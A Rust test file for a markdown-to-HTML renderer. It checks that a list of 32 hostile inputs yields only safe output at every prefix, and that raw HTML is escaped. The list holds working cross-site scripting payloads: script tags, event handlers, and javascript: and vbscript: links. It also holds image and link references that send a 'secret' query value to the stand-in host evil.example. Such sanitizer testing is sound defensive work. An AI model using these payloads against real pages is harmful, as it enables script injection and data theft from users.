//! What a hostile text may try: nothing but the closed list comes out of it, at every prefix.

use crate::grown::check_prefixes;
use crate::outline::outline;

const ATTACKS: [&str; 32] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a <img src=x onerror=alert(1)> b",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<!DOCTYPE html><body onload=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](  javascript:alert(1)  \"x\")",
    "[a](<javascript:alert(1)>)",
    "[a](https://example.com \"x\" onmouseover=alert(1))",
    "[a](https://example.com \"\\\" onmouseover=alert(1)\")",
    "[a](https://example.com\" onmouseover=\"alert(1))",
    "![a\" onerror=\"alert(1)](https://evil.example/?q=secret)",
    "[a]: javascript:alert(1)\n\n[a] [a][] [b][a] ![a]",
    "[x]: https://evil.example/?q=secret\n![][x]",
    "```\"onmouseover=alert(1)\nx\n```",
    "```x\"><script>alert(1)</script>\nx\n```",
    "| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| ![b](data:x) | <b onclick=alert(1)>c</b> |",
    "- [x] <input type=checkbox onclick=alert(1)>\n- [a](vbscript:msgbox(1))",
    "# <script>alert(1)</script>\n\n> <iframe src=//evil.example>\n\n1. <details open ontoggle=alert(1)>",
];

#[test]
fn nothing_but_the_closed_list_at_every_prefix() {
    for attack in ATTACKS {
        for place in [
            attack.to_owned(),
            format!("> - {attack}"),
            format!("**a {attack} b**"),
            format!("|a|\n|-|\n|{attack}|"),
        ] {
            check_prefixes(&place);
        }
    }
}

#[test]
fn html_is_shown_as_it_was_written() {
    for (markdown, expected) in [
        ("<script>alert(1)</script>", "<p>&lt;script>alert(1)&lt;/script></p>"),
        ("a <b onclick=x>c</b>", "<p>a &lt;b onclick=x>c&lt;/b></p>"),
        ("<div>\n*a*\n</div>\n\n*b*", "<p>&lt;div>⏎*a*⏎&lt;/div></p><p><em>b</em></p>"),
        ("<!-- a -->", "<p>&lt;!-- a --></p>"),
        ("<b>*a*</b>", "<p>&lt;b><em>a</em>&lt;/b></p>"),
        ("- <u>a</u>", "<ul><li>&lt;u>a&lt;/u></li></ul>"),
        ("<a href=\"https://example.com\">a</a>", "<p>&lt;a href=\"https://example.com\">a&lt;/a></p>"),
    ] {
        assert_eq!(outline(markdown), expected);
    }
}
